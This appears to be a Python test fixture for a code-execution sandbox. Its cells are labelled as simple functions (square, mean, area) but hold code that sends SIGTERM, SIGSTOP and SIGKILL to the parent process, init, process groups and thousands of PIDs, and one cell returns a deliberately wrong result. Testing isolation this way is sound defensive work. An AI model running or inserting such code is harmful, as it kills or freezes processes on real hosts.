"""ko: 보이는 모든 프로세스와 프로세스 그룹에 신호를 보냅니다.
en: Sends signals to every process and process group it can think of.
"""

EXPECTED = {}
CELLS = {
    "square": """
import os, signal
for pid in [os.getppid(), 1, 0, -1, -os.getpgrp(), *range(2, 4000)]:
    if pid not in (os.getpid(), 0, -1, -os.getpgrp()):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
def square(x): return -1
""",
    "mean": "def mean(values): os.kill(0, signal.SIGTERM)",
    "area": "def area(radius): os.kill(-1, signal.SIGSTOP)",
}
